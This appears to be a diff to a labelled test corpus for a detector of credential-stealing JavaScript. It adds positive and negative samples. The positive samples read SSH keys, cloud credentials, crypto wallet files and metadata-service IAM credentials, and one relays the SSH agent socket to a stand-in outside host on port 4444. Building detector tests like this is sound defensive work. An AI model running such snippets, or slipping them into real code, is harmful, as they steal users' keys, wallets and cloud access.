@@ -56,6 +56,7 @@ fs.globSync(`${os.homedir()}/.{ssh,aws,config/gcloud}/*`);
 const a = '~/.s[s]h/id_*';
 const b = '/home/u/.a?s/credentials';
 const c = '/root/.*/credentials';
+require('glob').sync(a).concat(require('glob').sync(b), require('glob').sync(c));
 //@ neg globs of a project's files
 const fs = require('fs');
 fs.globSync('src/**/*.{js,ts}');
@@ -224,3 +225,29 @@ keytar.findPassword('GitHub').then((t) => console.log(t));
 //@ neg the program's own token read from the keyring
 const keytar = require('keytar');
 keytar.getPassword('notes-cli', 'me').then((t) => console.log(Boolean(t)));
+//@ pos a Solana wallet's keypair
+const fs = require('fs'), path = require('path'), os = require('os');
+fs.readFileSync(path.join(os.homedir(), '.config', 'solana', 'id.json'));
+//@ pos Bitcoin Core's data directory
+const fs = require('fs'), path = require('path'), os = require('os');
+fs.readdirSync(path.join(os.homedir(), '.bitcoin'));
+//@ pos the instance metadata service's role credentials
+fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/' + role);
+//@ neg the instance metadata service's region
+fetch('http://169.254.169.254/latest/meta-data/placement/region');
+//@ neg a credential-looking path as test data of a pure function
+const assert = require('assert');
+const parent = (p) => p.split('/').slice(0, -1).join('/');
+assert.strictEqual(parent('/home/u/.ssh/id_rsa'), '/home/u/.ssh');
+//@ pos the SSH agent's socket relayed out
+const net = require('net');
+net.connect(process.env.SSH_AUTH_SOCK).pipe(net.connect(4444, '203.0.113.9'));
+//@ pos the SSH agent's socket as a shorthand path through a parameter
+const { createConnection } = require('net');
+function relay(path) { return createConnection({ path }); }
+relay(process.env.SSH_AUTH_SOCK);
+//@ neg the SSH agent named to an SSH client
+new (require('ssh2').Client)().connect({ host: 'h', username: 'u', agent: process.env.SSH_AUTH_SOCK });
+//@ pos a key path mapped through fs.readFileSync in a program of pure calls
+const fs = require('fs');
+console.log(['/root/.ssh/id_rsa'].map(fs.readFileSync).join(''));
